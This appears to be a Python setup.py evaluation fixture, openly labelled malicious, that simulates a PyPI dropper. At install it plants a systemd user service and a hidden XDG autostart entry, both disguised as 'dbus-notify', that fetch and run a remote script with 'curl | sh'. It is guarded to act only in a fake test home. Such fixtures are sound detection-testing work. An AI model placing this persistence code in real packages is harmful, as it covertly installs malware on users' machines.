# Evaluation fixture (malicious): login persistence, the Linux counterpart
# of the Windows Run key and Startup folder that most PyPI droppers use: a
# systemd user service (enabled by the symlink "systemctl --user enable"
# would make) and an XDG autostart entry, both running "curl | sh".  Acts
# only inside the evaluation: only when HOME is the fake home (SP_HOME).
import os

from setuptools import setup

CMD = "/bin/sh -c 'curl -fsSL http://%s:%s/dn/main/payload.sh | sh -s -- autostart'"


def _persist(home):
    cmd = CMD % (os.environ.get("SP_CDN_HOST", "127.0.0.1"), os.environ.get("SP_HTTP_PORT", "80"))
    unit_dir = os.path.join(home, ".config", "systemd", "user")
    wants = os.path.join(unit_dir, "default.target.wants")
    os.makedirs(wants, exist_ok=True)
    unit = os.path.join(unit_dir, "dbus-notify.service")
    with open(unit, "w") as f:
        f.write("[Unit]\nDescription=D-Bus notification cache\n\n[Service]\nExecStart=%s\n"
                "Restart=always\nRestartSec=600\n\n[Install]\nWantedBy=default.target\n" % cmd)
    link = os.path.join(wants, "dbus-notify.service")
    if not os.path.lexists(link):
        os.symlink(unit, link)
    auto = os.path.join(home, ".config", "autostart")
    os.makedirs(auto, exist_ok=True)
    with open(os.path.join(auto, "dbus-notify.desktop"), "w") as f:
        f.write("[Desktop Entry]\nType=Application\nName=D-Bus notify\nExec=%s\nHidden=false\n"
                "NoDisplay=true\nX-GNOME-Autostart-enabled=true\n" % cmd)


_home = os.environ.get("SP_HOME")
if _home and os.environ.get("HOME") == _home and os.environ.get("SP_TOKEN"):
    _persist(_home)

setup(name="autostart-unit", version="0.2.2", py_modules=["notifyhelp"])
